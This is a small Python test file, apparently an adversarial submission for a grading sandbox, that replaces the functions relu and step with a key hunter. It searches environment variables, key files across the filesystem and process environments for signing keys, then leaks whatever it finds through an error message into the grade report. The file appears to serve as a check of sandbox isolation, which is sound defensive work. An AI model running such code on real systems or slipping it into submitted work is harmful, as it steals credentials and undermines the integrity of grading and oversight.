"""Adversarial: looks everywhere a signing key could be (the environment, the home
folder's .gradeschool/key, every file named key or *.key it can reach, every process's
environment) and puts what it finds into its error messages, from where it would reach
report.json. In the sandbox there is nothing to find; the judge has no key either."""

import os

PLACES = ("/", "/root", "/home", "/tmp", "/work", os.path.expanduser("~"), os.getcwd())


def _found() -> dict:
    found = {k: v for k, v in os.environ.items() if "KEY" in k.upper()}
    for top in PLACES:
        for folder, dirs, files in os.walk(top):
            dirs[:] = [d for d in dirs if d not in ("proc", "sys", "dev")][:50]
            for name in files:
                if name == "key" or name.endswith(".key"):
                    try:
                        with open(os.path.join(folder, name), "rb") as f:
                            found[os.path.join(folder, name)] = f.read(200).hex()
                    except OSError:
                        pass
    for pid in (p for p in os.listdir("/proc") if p.isdigit()):
        try:
            with open(f"/proc/{pid}/environ", "rb") as f:
                if b"GRADESCHOOL_KEY" in f.read():
                    found[f"/proc/{pid}/environ"] = "has GRADESCHOOL_KEY"
        except OSError:
            pass
    return found


def _exercise(x, *args, **kwargs):
    raise ValueError(f"found: {_found()!r}"[:3000])


relu = step = _exercise
